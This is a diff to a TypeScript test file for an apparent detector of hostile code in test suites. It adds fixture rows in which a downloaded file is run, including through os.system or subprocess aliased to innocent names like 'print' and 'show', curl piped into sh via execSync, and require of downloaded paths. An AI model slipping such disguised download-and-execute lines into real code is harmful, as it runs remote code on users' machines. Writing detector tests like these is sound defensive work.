@@ -19,12 +19,19 @@ const JAVA_LOADED_DOWNLOADS: FindingRow[] = [
   ['src/test/java/BootTest.java', `Files.copy(conn.getInputStream(), Paths.get("/tmp/boot.jar"));\nURLClassLoader.newInstance(new URL[] { Paths.get("/tmp/boot.jar").toUri().toURL() });`],
 ];
 
-/** A reader rebound to a shell (review 64 R6), and Node requiring a downloaded path (R3). */
-const REBOUND_AND_REQUIRED: FindingRow[] = [
+/** A reader, or any name, bound to a call that runs a command, then given the download (review 64 R6). */
+const REBOUND_TO_A_SHELL: FindingRow[] = [
   ['tests/test_x.py', 'p = urlretrieve(u)[0]\nprint = os.system\nprint(p)'],
   ['tests/test_x.py', 'p = urlretrieve(u)[0]\nfrom os import system as print\nprint(p)'],
   ['tests/test_x.py', 'p = urlretrieve(u)[0]\nbuiltins.print = os.system\nprint(p)'],
   ['tests/test_x.py', 'p = urlretrieve(u)[0]\nread_csv = os.system\nread_csv(p)'],
+  ['tests/test_x.py', 'p = urlretrieve(u)[0]\nrun = os.system\nrun(p)'],
+  ['tests/test_x.py', "p = urlretrieve(u)[0]\nfrom subprocess import call as show\nshow(['sh', p])"],
+  ['tests/x.test.js', "const { execSync: log } = require('child_process');\nexecSync(`curl -o /tmp/m.sh ${u}`);\nlog('sh /tmp/m.sh');"],
+];
+
+/** Node requiring a downloaded path (review 64 R3). */
+const REQUIRED_DOWNLOADS: FindingRow[] = [
   ['tests/x.test.js', 'const p = await download(u);\nrequire(p);'],
   ['tests/x.test.js', 'const p = await downloadFile(`${BASE}/boot.js`);\nawait import(p);'],
   ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst r = module.createRequire(import.meta.url);\nr('/tmp/m.js');"],
@@ -61,7 +68,8 @@ const ONE_SECRET_SENT: FindingRow[] = [
 
 describeFindings('attack 65', [
   ['Java: a download copied to a file, then loaded as native code or classes', JAVA_LOADED_DOWNLOADS],
-  ['a reader rebound to a shell, a download required in Node', REBOUND_AND_REQUIRED],
+  ['a reader or a name rebound to a call that runs a command', closedRows(REBOUND_TO_A_SHELL)],
+  ['a download required in Node', REQUIRED_DOWNLOADS],
   ['the whole environment sent through a variable', closedRows(ENVIRONMENT_BY_VARIABLE)],
   ['one secret or a credential file sent to a host', closedRows(ONE_SECRET_SENT)],
 ]);
